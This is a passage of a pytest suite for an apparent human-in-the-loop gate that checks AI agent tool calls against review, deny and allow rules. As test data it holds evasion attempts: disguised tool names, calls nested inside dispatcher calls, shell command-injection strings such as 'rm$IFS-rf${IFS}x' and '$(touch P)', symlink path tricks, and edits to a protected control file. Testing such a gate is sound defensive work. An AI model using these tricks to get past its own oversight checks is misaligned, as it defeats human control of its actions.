    ({"Table": "users"}, True, False), ({}, True, False)], ids=rules_id)
def test_a_missing_argument_counts_as_a_match_for_review_only(
        make_rules, arguments, review, allow):
    """For review and deny an argument that is missing, of another type or
    too long counts as a match; for allow it does not. A dotted name is an
    argument inside an argument, which a second one cannot hide."""
    for effect, stops in (("review", review), ("deny", review),
                          ("allow", allow)):
        rules = make_rules("".join(
            rule(f'"{tool}"', action_pattern=f'"{tool}"', effect=f'"{effect}"',
                 arguments=f'{{ "{name}" = "users" }}')
            for tool, name in (("flat", "table"), ("deep", "a.table"))))
        for tool, given in (("flat", arguments), ("deep", {"a": arguments})):
            match = rules.first_match(tool, given)
            assert (match.checkpoint.checkpoint_id == tool) == stops
        hidden = rules.first_match("deep", {"a": arguments, "a.table": "logs"})
        assert (hidden.checkpoint.checkpoint_id == "deep") == (
            effect != "allow" and arguments.get("table", "logs") != "logs")


def disguises(name: str):
    """Spellings of a tool's name that a view sees through."""
    for prefix in ("", "mcp__a_b__c__", "a.b.", "a/b/", "a::", "re", "x y "):
        for word in (name, name.upper(), name.title(), name + "_v2"):
            yield prefix + word
    for small in (0xff41, 0x1d41a, 0x1d5ee, 0x1d68a):     # width and style
        yield "".join(chr(small + ord(c) - 97) if c.islower() else c
                      for c in name)
    for c in ("\u00ad\u034f\u061c\u115f\u180e\u200b\u200d\u202e\u2800\u3164"
              "\ufe0f\ufeff\uffa0\U000e0041\n\r\t\0\x7f"):
        for at in range(len(name) + 1):
            yield name[:at] + c + name[at:]


@pytest.mark.parametrize("name, decides", [
    ("delete_records", "delete-records"), ("deploy_model", "deploy-model"),
    ("send_email", "external-request"), ("http_post", "external-request"),
    ("api_request", "external-request"), ("apiRequest", "external-request"),
    ("sendEmail", "external-request"), ("publish", "external-request")])
def test_no_spelling_passes_a_shipped_rule(make_rules, name, decides):
    """Case, name spaces, width, style, invisible characters, look-alikes
    and line ends: hundreds of spellings, and none passes."""
    rules = make_rules(hitl.first_rules())
    for spelling in disguises(name):
        match = rules.first_match(spelling, {"environment": "prod"})
        assert (match.effect, match.checkpoint.checkpoint_id) == (
            "review", decides), ascii(spelling)
        assert match.why.startswith("action_pattern ") and " finds " in match.why
    for latin, other in zip(
            "aeopsih", "\u0430\u0435\u043e\u0440\u0455\u0456\u04bb", strict=True):
        fake = name.replace(latin, other, 1)
        match = rules.first_match(fake, {})
        assert fake == name or match.effect == "review" and (
            " finds " in match.why or "not plain ASCII" in match.why)


@pytest.mark.parametrize("pattern", ["^delete_user$", r"\bdelete_user\b",
                                     "(?-i:^[Dd]elete_)"])
def test_anchors_do_not_lose_a_name_space_or_a_disguise(make_rules, pattern):
    """The last part after `__` `.` `/` `:` and the disguised name are seen
    by an anchored pattern too, one that minds case as well."""
    rules = make_rules(rule(action_pattern=f"'{pattern}'"))
    for name in ("DELETE_USER", "mcp__db__delete_user", "db.delete_user",
                 "a/b/Delete_User", "db:delete_user", "de\u200blete_user",
                 "x\uff0edelete\u00ad_user", "x__\U0001d41delete_user\n"):
        match = rules.first_match(name, {})
        assert match.checkpoint.checkpoint_id == "a", ascii(name)
    camel = make_rules(rule(action_pattern="'(?-i:^Drop$)'"))
    assert camel.first_match("mcp__x__Drop", {}).effect == "review"


# ---- what a pattern may cost ----

@pytest.mark.parametrize("pattern", r"""(a+)+$ (a*)*$ (a|a)*$ (a|ab)*c
    ([a-z]+)*! (x+x+)+y (a?){30}b (\w+\s?)*$ (\w\d|\d\w)+$ (a+){2,}$ ((a|b)+)+$
    (?=(a+)+$)x (?:a|.b|..)+$ (?:a{1,9}){10,}$ (|a)+$ x*(y|(z+)*)$ (a|aa){20}
    (?i:(A|a.|b))*$ a*a*a*a*b .*.*.*.*=x (a*)(a*)(a*)(a*)b .*(.*)\1(.*)b
    kubectl.*delete.*pod.*prod .{0,300}.{0,300}.{0,300} x+.+[^y]+z
    \bgit\b.*\bpush\b.*(--force|-f)\b.*\bmain\b (?=.*a)(?=.*b)(?=.*c)
    (?:(?:(?:a{0,60}){60}){60}){60} """.split() + ["a*" * 999 + "b"], ids=rules_id)
def test_a_pattern_that_would_not_end_is_refused(make_rules, pattern):
    """A pattern with nested repeats, or with more than two open ones that can
    meet (bounded ones count by their product), is refused: `re` cannot be
    interrupted and holds every thread."""
    for bad in (rule(action_pattern=f"'{pattern}'"),
                rule(arguments=f"{{ table = '{pattern}' }}")):
        with pytest.raises(hitl.ConfigError, match="cannot be inter"):
            make_rules(bad)


ORDINARY = r"""delete|drop|truncate ^rm$ \bdrop\b (?i)prod drop\s+table
    ^(?!dev) send_(mail|sms) [^a-z] rm\s+-[rf]+ (?:GET|POST)\s a{2,5} .*prod.*
    ^(\d{3}-)+$ [a-z]+_prod$ (foo|bar)+x (ab|cd)*$ (a{3})+$
    [a-z]+/[a-z]+/[a-z]+/[a-z]+ \d+-\d+-\d+-\d+! \bgit\b.*\bpush\b.*main
    a[^x]*b[^x]*c \w+[a-z]*=y [ab]*a[ab]*c git\b[^x]*push\b[^x]*(--force|-f)\b
    (git|a).*(push|b)[^x]*[=:] .{0,300}x.{0,60}y (foo|bar)[^z]*(foo|bar)z
    """.split()


def test_ordinary_patterns_are_taken_and_fast(make_rules):
    """What people write is accepted, and in the agent's own process no
    pattern takes more than two seconds on any argument."""
    for pattern in ORDINARY:
        rules = make_rules(rule(arguments=f"{{ table = '{pattern}' }}"))
        longest = min(hitl.reach(pattern), 5000)    # with repeats, none is longer
        for unit in ("a", "1-", "git push -f ", "foobar"):
            text = (unit * longest)[:longest]
            start = time.thread_time()
            rules.first_match("delete_x", {"table": text})
            assert time.thread_time() - start < 2, (pattern, unit)


# ---- one name is one name; a call inside a call ----

@pytest.mark.parametrize("arguments", [
    {"environment": "staging", "Environment": "prod"},
    {"environment": "staging", "\uff45nvironment": "prod"},
    {"environment": "staging", "environment\0": "prod"},
    {"environment": "staging", "environ\u00adment": "prod"},
    {"environment": "staging", "a": [{"b": {"x": 1, "X": 2}}]}], ids=ascii)
def test_names_that_count_as_one_are_ambiguous(make_rules, arguments):
    """Two argument names that are equal after NFKC, casefolding and dropping
    what is not printable, at any depth: review and deny match, allow not."""
    for effect, outcome in (("review", "review"), ("deny", "deny"),
                            ("allow", "review")):
        rules = make_rules('[gate]\nunmatched = "review"\n' + rule(
            action_pattern='"deploy"', effect=f'"{effect}"', arguments=(
                '{ environment = "prod|staging" }' if effect == "allow"
                else '{ environment = "prod" }')))
        assert rules.first_match("deploy", arguments).effect == outcome
        free = make_rules(rule()).first_match("deploy", arguments)
        assert free.checkpoint.checkpoint_id == "unmatched"
        plain = rules.first_match("deploy", {"environment": "staging"})
        assert plain.effect == ("allow" if effect == "allow" else "review")


@pytest.mark.parametrize("tool, inner", [
    ("use_mcp_tool", {"server_name": "fs", "tool_name": "delete_file",
                      "arguments": '{"path": "x"}'}),
    ("parallel", {"tool_uses": [{"recipient_name": "functions.delete_file",
                                 "parameters": {}}]}),
    ("execute", {"tool_slug": "DELETE_FILE", "arguments": {}}),
    ("call", {"toolName": "delete_file"}),
    ("call", {"Tool-Name": "delete_file", "args": None}),
    ("call", {"name": "delete_file", "input": "x"}),
    ("call", {"a": [' {"b": "[{\\"tool\\": \\"delete_file\\", '
                    '\\"input\\": {}}]"}']}),
    ("call", {"a": '{"tool_name": "ls", "tool_name": "delete_file"}'}),
    ("call", {"a": '{"tool_name": "delete_file", "tool_name": "ls"}'}),
    ("call", {"a": '["{\\u0022tool_name\\u0022: \\u0022delete_file\\u0022}"]'}),
    ("call", {"a": json.dumps(json.dumps(json.dumps({"toolName": "delete_file"})))}),
    ("call", {"tool": "delete_file", "args": json.dumps(json.dumps({"path": "x"}))}),
    ("call", {"calls": [{"name": "x", "input": 1}] * 101}),
    ("call", {"a": "[" * 99_999})], ids=rules_id)
def test_a_dispatcher_is_looked_through(make_rules, tool, inner):
    """Where a call's arguments name an inner tool with its arguments, at any
    depth, in lists and in JSON text, that call is matched too and the
    stricter one counts."""
    for effect in ("review", "deny"):
        rules = make_rules(rule('"ok"', action_pattern=f'"{tool}"', effect=(
            '"allow"')) + rule(effect=f'"{effect}"'))
        many = len(inner.get("calls", "")) > 100 or "a" in inner and (
            inner["a"][0] == "[" and len(inner["a"]) > 999)
        found = rules.first_match(tool, inner)
        assert found.effect == ("review" if many else effect)
        assert not rules.is_free(tool, inner) or not (
            hitl.has_plain_values(inner))
    for harmless in ({"name": "delete_file"}, {"a": "delete_file"},
                     {"path": "x", "content": '{"name": "delete_x"}'}):
        assert rules.first_match(tool, harmless).effect == "allow"
    users = make_rules(rule(arguments='{ table = "users" }'))
    for table, effect in (("users", "review"), ("logs", "allow")):
        call = {"tool_name": "delete_x", "arguments": json.dumps({"table": table})}
        assert users.first_match("call", call).effect == effect
    given = make_rules(rule(arguments='{ input = "users" }'))
    for quoted in ("{}", "[]", "0", "null", '"{}"'):   # no text: then in doubt
        call = {"tool_name": "delete_x", "arguments": quoted}
        assert given.first_match("call", call).effect == "review", quoted


def test_large_arguments_are_looked_through_in_time(make_rules):
    """A million numbers, long texts and documents hold no call up; what
    nobody could look through waits."""
    endless: dict = {"tool": "x"}
    endless["inner"] = endless
    rules = make_rules(rule())
    for arguments, waits in (
            ({"vectors": [1.5] * 1_000_000}, False), ({"a": endless}, True),
            ({"names": ["x"] * 150_000}, False), ({"a": "{" * 10**6}, False),
            ({"a": '"' + "x" * 10**6}, False), ({"a": '{"a":' * 9999}, True),
            ({"lists": [[]] * 100_001}, True)):
        start = time.thread_time()
        match = rules.first_match("store", arguments)
        assert time.thread_time() - start < 2
        assert (match.effect == "review") == waits, match.why
    assert rules.first_match("delete_x", endless).checkpoint.checkpoint_id == "a"
    assert rules.all_holding("store", endless) == [*rules.checkpoints]


def test_a_call_is_free_where_no_argument_can_hold_it(make_rules):
    """A tool that no checkpoint could hold runs without another look, unless
    two names count as one, or a name is one that a dispatcher uses."""
    text = rule('"put"', action_pattern='"put"', arguments='{ a = "x" }') + rule(
        '"get"', action_pattern='"get"', arguments='{ a = "x" }',
        effect='"allow"') + rule('"ls"', action_pattern='"ls"', effect='"allow"')
    for unmatched in ("allow", "review"):
        rules = make_rules(f'[gate]\nunmatched = "{unmatched}"\n' + text)
        opens = unmatched == "allow"
        for tool, names, free in (
                ("read", ["path", "n"], opens), ("read", ["a", "A"], False),
                ("read", ["toolName"], False), ("put", ["a"], False),
                ("get", ["a"], opens), ("ls", ["a"], True),
                ("l\u00f6schen", [], False)):
            assert rules.is_free(tool, names) == free, tool
    assert hitl.has_plain_values({"a": 1, "b": "x", "c": None, "d": True, "e": 1.5})
    for value in ("{", "x[", 'x"', [], {}, (1,)):
        assert not hitl.has_plain_values({"a": "x", "b": value}), value


# ---- shell commands and file edits ----

SHELL_NAMES = """Bash PowerShell Shell Execute process pwsh run_shell_command
    run_commands runTerminalCommand executePwsh bash_tool execute_cmd shell-exec
    mcp__jetbrains__execute_terminal_command functions.Bash:0 mcp__ssh__ssh_exec
    local_shell container.exec runcommand start_process Terminal Monitor zsh
    sandbox_run Console cmd.exe mcp_shell_run-command exec_command bAsH
    check_output sendText docker gradle npm make""".split()
EDIT_NAMES = """Write Update edit_notebook_file text_editor fs_write edit_block
    mcp__filesystem__write_file replace_file_content createFile StrReplaceFile
    builtin_edit_existing_file WriteFile append_file MultiEdit delete_file
    EditNotebook apply_patch insert_content move_file fs.write:0 applyDiff
    write-file save_file search_replace NotebookEdit rename_path eDiT WrItE
    erase_file wipeFile clear_file empty_file prepend_file destroy_file
    merge_file drop_file hardlink""".split()


def kinds(effect='"review"', pattern=r"'\brm\b'", edit="'leash'") -> str:
    """Rules for commands and for edits."""
    return rule('"cmd"', kind='"shell"', effect=effect, action_pattern=pattern,
                description_template='"Run {command}"') + rule(
        '"own"', kind='"edit"', effect='"deny"', action_pattern=edit,
        description_template='"Edit {file_path}"')


def test_a_kind_is_known_by_its_shape(make_rules):
    """kind selects commands and edits whatever an agent calls the tool: a
    word for it in any joining, and an argument that holds the text."""
    rules = make_rules(kinds())
    for name in SHELL_NAMES:
        for key in ("command", "cmd", "Command", "shellCommand", "raw_command",
                    "scriptContent"):
            assert rules.first_match(name, {key: "rm x"}).effect == "review"
        assert rules.first_match(name, {"command": "ls"}).effect == "allow"
    for name in EDIT_NAMES:
        for key in ("path", "file_path", "filePath", "target-file",
                    "pathInProject", "output_file", "directory"):
            assert rules.first_match(name, {key: "a/leash"}).effect == "deny"
        assert rules.first_match(name, {"path": "a"}).effect == "allow"
    for name in ("read_file", "Read", "view", "glob", "Grep", "get_dataset",
                 "view_log", "list_directory", "print_tree"):
        call = {"path": "leash", "pattern": "rm", "query": "rm x"}
        assert rules.first_match(name, call).effect == "allow", name


@pytest.mark.parametrize("arguments, held", [
    ({"command": "ls; rm x"}, True), ({"command": 'r"m" x'}, True),
    ({"command": "r\\m x"}, True), ({"command": "r\\\nm x"}, True),
    ({"command": "rm$IFS-rf${IFS}x"}, True), ({"command": "form x"}, False),
    ({"command": ["rm", "x"]}, True), ({"commands": ["ls", "rm x"]}, True),
    ({"command": '["bash", "-c", "\\u0072m x"]'}, True),
    ({"commands": [{"command": "rm x"}]}, True), ({"command": {"a": 1}}, True),
    ({"command": "ls", "cmd": 7}, True), ({"options": {"cmd": "rm x"}}, True),
    ({"command": None}, True), ({"command": ""}, False), ({}, False),
    ({"command": "ls", "Command": "pwd"}, True), ({"input": "rm x\n"}, True),
    ({"command": "git rev-parse $(cat <<E\nx\nE\n) | tee `pwd`"}, False)],
    ids=rules_id)
def test_a_tripwire_looks_at_three_views(make_rules, arguments, held):
    """The pattern is searched in the command as it is, without quotes,
    backslashes and line continuations, and with $IFS as a blank; what cannot
    be read matches, and nothing is parsed."""
    effect = make_rules(kinds()).first_match("Bash", arguments).effect
    assert (effect == "review") == held


def cases(table: str) -> list[str]:
    """The texts of a table: @@ or a line end between, escapes as in Python."""
    return [text.encode().decode("unicode_escape")
            for text in re.split("@@|\n    ", table.strip())]


OPENS = ["git status", "ls", "ls -la a/b.c", "git status && ls | cat README.md",
         'echo "a;b" \'$x `y`\'', "ls 2>&1 ; ls >/dev/null || echo a=%b",
         "2>/dev/null ls\nls", "echo  a"]
SHUT = cases(r"""git status \r#; touch P@@ls \x0b#; touch P@@ls ${x# #}; touch P
    cat README.md ';' ls SECRET@@git status; touch P@@ls $(touch P)@@ls `x`
    ls > P@@ls\ntouch P@@ls & touch P@@ls <(touch P)@@ls \\\n; touch P@@ls\0
    ["echo",\n"./x"]@@ls\n@@; ls@@ls;;ls@@ls && @@ls &&& ls@@2>&1@@ls 2>&1x
    ls>/dev/null@@ls --% x@@echo "!!"@@echo 'a\''@@echo "$x"@@echo "a`b"@@ls *
    ls ?@@ls ~@@ls {a,b}@@! ls@@# ls@@ls #x@@A=1 git status@@LS@@lsx@@echo 'a
    echo "a@@(ls)@@{ ls; }@@ls <<E\nx\nE@@ls < a@@ls |& ls@@ls\x85ls@@ls [a]
    ls \u2019x@@echo ^x@@ls\rls@@-ls@@'ls'@@l"s"@@ls 1>&2@@ls 3>/dev/null
    ls >/dev/null2@@ls 2> /dev/null@@ls >>/dev/null@@ls &>/dev/null@@ls\t-l
    make test;(x)@@ls \x7f@@ls;\n;ls@@ @@echo a\\b@@ls >P@@ls | | ls@@ls |
    """)


@pytest.fixture
def allow_rules(make_rules):
    pattern = r"'git status|ls( .*)?|echo .*|cat README\.md|make test'"
    return make_rules('[gate]\nunmatched = "review"\n' + kinds(
        '"allow"', pattern))


@pytest.mark.skipif(os.name == "nt", reason="nothing opens there")
def test_an_allow_list_opens_for_plain_texts_only(allow_rules, monkeypatch):
    """Of a shell text every simple command must match to the letter, and
    what a shell could read as more than words, quotes without escapes and
    separators opens nothing; on Windows nothing does."""
    for text in OPENS:
        match = allow_rules.first_match("Bash", {"command": text})
        assert match.effect == "allow", text
    for text in SHUT:
        match = allow_rules.first_match("Bash", {"command": text})
        assert match.effect == "review", text
    for commands, effect in ((["ls", "git status"], "allow"), ([], "review"),
                             (["ls", "rm x"], "review"), ("ls", "review")):
        match = allow_rules.first_match("run_commands", {"commands": commands})
        assert match.effect == effect
    monkeypatch.setattr(hitl.os, "name", "nt")
    assert allow_rules.first_match("Bash", {"command": "ls"}).effect == "review"


@pytest.mark.parametrize("tool, more, opens", [
    ("Bash", {}, True), ("run_shell_command", {"description": "x"}, True),
    ("Bash", {"timeout": 9000, "run_in_background": False}, True),
    ("Bash", {"cwd": "."}, True), ("Bash", {"workdir": "FOLDER/x/.."}, True),
    ("Bash", {"cwd": "/"}, False), ("Bash", {"cwd": 7}, False),
    ("Bash", {"env": {}}, False), ("Bash", {"shell": "fish"}, False),
    ("Bash", {"timeout": "1; rm x"}, False), ("Bash", {"x": None}, False),
    ("Bash", {"description": ["x"]}, False), ("Bash", {"Command": "ls"}, False),
    ("Bash", {"script": "ls"}, False), ("mcp__ssh__Bash", {}, False),
    ("x.Bash", {}, False), ("Bash", {"command": ["git", "status"]}, True),
    ("Bash", {"command": ["ls", "-l; rm x"]}, False),
    ("Bash", {"command": ["git status"]}, False), ("Bash", {"command": []}, False),
    ("Bash", {"command": ["echo", 7]}, False)], ids=rules_id)
def test_an_allow_list_needs_to_know_every_argument(allow_rules, tmp_path,
                                                    tool, more, opens):
    """Beside the command only a description, a time-out, a background flag,
    or the folder the agent is in; an argv list is one command, verbatim."""
    more = {k: v.replace("FOLDER", str(tmp_path)) if isinstance(v, str) else v
            for k, v in more.items()}
    (tmp_path / "x").mkdir()
    match = allow_rules.first_match(tool, {"command": "ls"} | more,
                                    str(tmp_path))
    assert (match.effect == "allow") == opens


@pytest.mark.parametrize("arguments, told", [
    ({"command": ["bash", "-lc", "ls"]}, "Run bash -lc ls"),
    ({"cmd": "ls"}, "Run ls"), ({"commands": ["ls", "pwd"]}, "Run ls pwd"),
    ({"commands": '["ls"]'}, "Run ls"), ({"options": {"script": "a\nb"}},
                                         "Run a\nb")], ids=rules_id)
def test_a_command_is_told_whatever_it_is_called(make_rules, arguments, told):
    """{command} in the template of a shell rule is the command's text."""
    match = make_rules(kinds(pattern="'.*'")).first_match("Shell", arguments)
    assert hitl.describe(match.checkpoint, "Shell", arguments) == told
    deep = {"command": "[" * 99_999}
    assert hitl.describe(match.checkpoint, "Shell", deep).startswith("Run [[")


def test_an_edit_is_seen_where_it_lands(make_rules, tmp_path):
    """An edit rule looks at each path as written and as resolved, relative
    to the hook's cwd, and at a patch, in a shell text too."""
    (tmp_path / "leash").write_text("")
    (tmp_path / "notes.md").symlink_to("leash")
    (tmp_path / "d").mkdir()
    rules = make_rules(kinds(edit=f"'{tmp_path}/leash|^leash$'"))
    patch = ("*** Begin Patch\n*** {} File: {}\n@@\n-leash\n+leash\n leash\n"
             "*** End Patch\n")
    for tool, arguments, denied in (
            ("Write", {"file_path": "leash"}, True),
            ("Write", {"file_path": "LEASH"}, True),
            ("Write", {"file_path": "notes.md", "content": "x"}, True),
            ("Write", {"file_path": "d/../notes.md"}, True),
            ("Write", {"uri": f"file://{tmp_path}/le%61sh"}, True),
            ("Write", {"uri": f"file://localhost{tmp_path}/leash"}, True),
            ("Write", {"uri": "file:leash"}, True),
            ("Write", {"path": "le\u200dash"}, True),
            ("Write", {"file_path": "d/leash"}, False),
            ("Write", {"file_path": "x", "content": "leash"}, False),
            ("Write", {"path": "a", "Path": "leash"}, True),
            ("Write", {"files": [{"path": "a"}, {"path": "leash"}]}, True),
            ("Write", {"paths": ["a", "leash"]}, True),
            ("Write", {"paths": ["a"] * 1000}, False),
            ("Write", {"paths": ["a"] * 1001}, True),
            ("Write", {"path": "a", "edits": [{"newText": "leash"}]}, False),
            ("Write", {"path": "a\0b"}, True), ("Write", {}, False),
            ("Write", {"path": "x" * 5000}, True),
            ("move_file", {"source": "x", "destination": "leash"}, True),
            ("apply_patch", {"input": patch.format("Update", "leash")}, True),
            ("apply_patch", {"input": patch.format("Update", "notes.md")}, True),
            ("apply_patch", {"input": patch.format("Add", "x")}, False),
            ("patch", {"diff": "--- a/x\n+++ b/notes.md\n"}, True),
            ("Bash", {"command": "apply_patch <<'E'\n" + patch.format(
                "Update", "notes.md") + "E"}, True),
            ("Bash", {"command": "apply_patch <<'E'\n" + patch.format(
                "Add", "d/x") + "E"}, False),
            ("Bash", {"command": f"apply_patch < {tmp_path}/leash"}, True),
            ("Bash", {"command": f"cat {tmp_path}/leash"}, False),
            ("Read", {"file_path": "leash"}, False)):
        match = rules.first_match(tool, arguments, str(tmp_path))
        assert (match.effect == "deny") == denied, (tool, arguments)


def test_an_allow_rule_for_edits_needs_a_plain_path(make_rules, tmp_path):
    """An edit opens only where every path is written plainly and ends where
    it says; a patch opens nothing."""
    (tmp_path / "src").mkdir()
    (tmp_path / "src/link").symlink_to("/etc")
    rules = make_rules('[gate]\nunmatched = "review"\n' + rule(
        kind='"edit"', effect='"allow"', action_pattern="'src/.*'"))
    for arguments, opens in (
            ({"path": "src/a"}, True), ({"path": "src/../a"}, False),
            ({"path": "src/link/passwd"}, False), ({"path": "Src/a"}, False),
            ({"paths": ["src/a", "b"]}, False), ({"path": "src/\u0430"}, False),
            ({"path": "src/a", "diff": "x"}, False), ({}, False),
            ({"paths": ["src/a"] * 1000}, True), ({"paths": ["src/a"] * 1001}, False)):
        match = rules.first_match("Write", arguments, str(tmp_path))
        assert (match.effect == "allow") == opens, arguments
    for tool in ("Bash", "run_edit", "mcp__x__Write", "MCP_write", "x.Write"):
        call = {"cmd": "rm x", "path": "src/a"}
        assert rules.first_match(tool, call).effect == "review", tool


# ---- templates, warnings ----

@pytest.mark.parametrize("template, text", [
    ("{tool}: {a} {o.i} {o.n.0}", "t: x 1 (not given)"),
    ("{o} {none}", '{"i":1,"n":["\\u00e9"]} null'), ("{empty}", "t"),
    ("{gone} {o.gone} {a.gone} {tool}", "(not given) " * 3 + "t"),
    ("{a.__class__} {tool.upper} {o.keys} {a}", "(not given) " * 3 + "x"),
    ("{braces} {{tool}} {{{tool}}}", "{tool}{0}%s {tool} {t}"),
    ("{x.y} {lines}", "dotted a\n\nb"), ("all", "all"),
    ("{two.b}{a}", "(not given)x")])    # "two.b" and two's b: neither
def test_a_template_takes_names_and_never_fails(make_rules, template, text):
    """{tool} and argument names, dotted for nested ones; no attribute or
    index; what is not there shows as not given; values are no templates."""
    arguments = {"a": "x", "o": {"i": 1, "n": ["\u00e9"]}, "none": None,
                 "braces": "{tool}{0}%s", "x.y": "dotted", "empty": "  ",
                 "lines": "a\n\nb", "tool": "not me", "two.b": "dev",
                 "two": {"b": "prod"}}
    checkpoint = make_rules(rule(
        description_template=f'"{template}"')).checkpoints[0]
    assert hitl.describe(checkpoint, "t", arguments) == text
    nothing = checkpoint._replace(description_template="{gone} {o.gone}")
    for rule_of in (nothing, hitl.ODD_NAME):
        assert hitl.describe(rule_of, "t", {"a": "x"}) == 't a "x"'


# ============================== Configuration ==============================
# A rule that is silently missing is a door left open: whatever is wrong with
# the file is a ConfigError in full sentences.

FIRST = 'checkpoint 1 "a": '
WRONG_FILES = [     # text before a rule, place in the message, its cure
    ("[gate]\n[gate]\n", "not valid TOML: Cannot declare", "at line 2"),
    ("[checkpoint]\n#", '"checkpoint" is not a', "[[checkpoint]]?"),
    ("notify = [1]\n", '"notify" is not a', "[[notify]]?"),
    ("[[checkpoints]]\n", "unknown key", "mean [[checkpoint]]?"),
    ("[[gate]]\n", '"gate" is not a [gate] table', "did you mean [gate]?"),
    ("[rules]\n", 'unknown key "rules"', "known: [gate], [server]"),
    ("poll_seconds = 3\n", 'unknown key "poll_seconds"',
     "put poll_seconds under [gate]"),
    ("[server]\nunmatched = 3\n", '[server]: unknown key "unmatched"',
     "put unmatched under [gate]"),
    ("[gate]\npoll_seconds = 61\n", "[gate]: poll_seconds", "60"),
    ('[gate]\nunmatched = "Review"\n', "[gate]: unmatched", "mean review?"),
    *((f'[gate]\nserver_url = "{url}"\n', "[gate]: server_url",
       'must be like "http://127.0.0.1:8765", without a path')
      for url in ("localhost", "http://h:99999", "http://h/x")),
    ("[server]\nport = 70000\n", "[server]: port", "0 to 65535"),
    ("[[reviewer]]\n", 'reviewer 1: "name" is missing', 'add name = "..."'),
    ('[[reviewer]]\nname = "a:b"\n', 'reviewer 1 "a:b": name', "a colon"),
    ('[[reviewer]]\nname = "ana"\ntoken_sha256 = "x"\n', 'reviewer 1 "ana": '
     "token_sha256", "`python3 hitl.py token NAME` prints one"),
    (rule(), 'checkpoint_id "a" appears twice', "give each its own"),
    (rule('"a b"'), 'checkpoint 1 "a b": checkpoint_id', "letters, digits"),
    *((rule(f'"{ours}"'), f'checkpoint 1 "{ours}": checkpoint_id',
       "are reserved") for ours in ("unmatched", "odd-name")),
    (rule(action_pattern=""), FIRST + '"action_pattern" is missing',
     'add action_pattern = "..."'),
    *((rule(**{key: value}), FIRST + key, cure) for key, values, cure in (
        ("action_pattern", ['""', "1"], "a regular expression in quotes"),
        ("action_pattern", [r'"\bpay"', r'"pay\n"', r'"\u200bpay"'],
         "write the pattern in 'single quotes'"),
        ("action_pattern", ['"("'], "unterminated subpattern at position 0"),
        ("action_pattern", ["'[[a]'", "'(?<=a+)b'", f"'{'(' * 3000}{')' * 3000}'"],
         "is not a regular expression: "),
        ("arguments", ['"x"', "{}"], 'like { table = "users|orders" }'),
        ("arguments", ["{ table = '(' }"], "of table: is not a regular"),
        ("arguments", ["{ a.b = 'x' }"], "of a: must be a regular"),
        ("category", ['"destructiv"'], "did you mean destructive?"),
        ("effect", ['"refuse"'], "one of allow, review, deny"),
        ("timeout_seconds", ["0", "nan", "-inf", "true", '"30"', "9" * 400],
         "a number of seconds above 0"),
        ("description_template", ['" "', "7"], "in quotes, not empty"),
        ("description_template", [f'"{bad}"' for bad in (
            "{", "}", "{0}", "{}", "{a!r}", "{a:>9}", "{a[0]}", "{a.}")],
         "is not the name of an argument: write {tool} or {argument}"))
      for value in values),
    *((rule(**{key: '"review"'}), f'{FIRST}unknown key "{key}"', cure)
      for key, cure in (("unmatched", "put unmatched under [gate]"),
                        ("action_patern", "did you mean action_pattern?"),
                        ("colour", "known: checkpoint_id, action_")))]


@pytest.mark.parametrize("text, place, cure", WRONG_FILES, ids=rules_id)
def test_a_wrong_file_says_file_place_and_cure(tmp_path, make_rules, text,
                                               place, cure):
    """Whatever is wrong in checkpoints.toml is a ConfigError that names
    file, checkpoint, key and cure."""
    with pytest.raises(hitl.ConfigError) as error:
        make_rules(text + rule())
    assert str(error.value).startswith(
        f"{tmp_path / 'checkpoints.toml'}: {place}")
    assert cure in str(error.value)


def test_a_file_that_cannot_be_read_is_an_error(tmp_path, monkeypatch):
    """A missing file, a folder, a binary file: ConfigError, for a Gate too;
    never "no checkpoints". Where there is one beside hitl.py, the error names
    it and does not propose `init`: a new file would gate less."""
    path = tmp_path / "checkpoints.toml"
    (tool := tmp_path / "tool").mkdir()
    monkeypatch.setattr(hitl, "__file__", str(tool / "hitl.py"))
    for load in (hitl.load_configuration, hitl.Gate):
        with pytest.raises(hitl.ConfigError, match="`python3 hitl.py init` "):
            load(path)
    (tool / "checkpoints.toml").write_text(rule())
    for load in (hitl.load_configuration, hitl.Gate):
        with pytest.raises(hitl.ConfigError) as error:
            load(path)
        assert str(error.value) == (
            f"{path}: no such file (there is one beside hitl.py: "
            f"{tool / 'checkpoints.toml'}; name that one)")
    with pytest.raises(hitl.ConfigError, match="Is a directory|denied"):
        hitl.load_configuration(tmp_path)
    whole = hitl.first_rules().encode()
    for data, says in (
            *((bad, "not valid TOML: ") for bad in (
                b"\xff\xfe", hitl.first_rules().encode("utf-16"), b"\0", b"a\xe9",
                b"a = " + b"[" * 9999, b"a = " + b"9" * 5000)),
            *((bad, r"no \[\[checkpoint.*init` writes an example") for bad in (
                b"", b"# nothing\n[gate]\n", b"checkpoint = []"))):
        path.write_bytes(data)
        with pytest.raises(hitl.ConfigError, match=says):
            hitl.load_configuration(path)
    path.write_bytes(b"\xef\xbb\xbf" + whole)               # Notepad's BOM
    assert len(hitl.load_configuration(path).rules.checkpoints) == 4


@pytest.mark.parametrize("glob, name", [
    ("*_prod", "db_prod"), ("*prod*", "my_product"), ("?elete", "delete"),
    ("*.delete", "db.delete"), ("*", "other")])
def test_the_regex_that_a_glob_is_told_to_become_works(make_rules, glob, name):
    """A pattern that only makes sense as a glob is refused with the regex to
    write instead: written as it is told, it catches what the glob meant."""
    with pytest.raises(hitl.ConfigError) as error:
        make_rules(rule(action_pattern=f'"{glob}"'))
    told = error.value.message.rpartition("write ")[2]
    rules = make_rules(rule(action_pattern=told))
    assert rules.first_match(name, {}).effect == "review"
    for other, held in (("other", glob == "*"), (f"{name}_2", glob[-1] == "*")):
        assert (rules.first_match(other, {}).effect == "review") == held


def test_a_damaged_file_never_loses_a_rule_silently(make_rules):
    """A half-written file, or one with a line dropped or doubled, is refused
    or holds what it still names; it never has no checkpoints."""
    def holds(text: str) -> int:
        """How many checkpoints still hold; 0 where the file is refused."""
        with contextlib.suppress(hitl.ConfigError):
            rules = make_rules(text)
            count = len(rules.checkpoints)
            assert 1 <= count == text.count("\n[[checkpoint]]")
            assert all(rules.first_match(tool, {}).effect == "review" for tool
                       in ("deploy_x", "send_x", "delete_x", "pay_x")[:count])
            return count
        return 0

    text, step = hitl.first_rules(), 1 if LONG else 211
    cuts = {*range(0, len(text), step), *(
        found.end() for found in re.finditer("\n", text))}
    taken = [n for n in (holds(text[:cut]) for cut in sorted(cuts)) if n]
    assert set(taken) == {1, 2, 3, 4} and taken == sorted(taken)
    lines = [line for line in text.splitlines(True) if line[0] not in "#\n"]
    changed = [holds("".join(lines[:n] + again + lines[n + 1:]))
               for n, line in enumerate(lines) for again in ([], [line] * 2)]
    assert set(changed) == {0, 4} and changed.count(0) >= 20


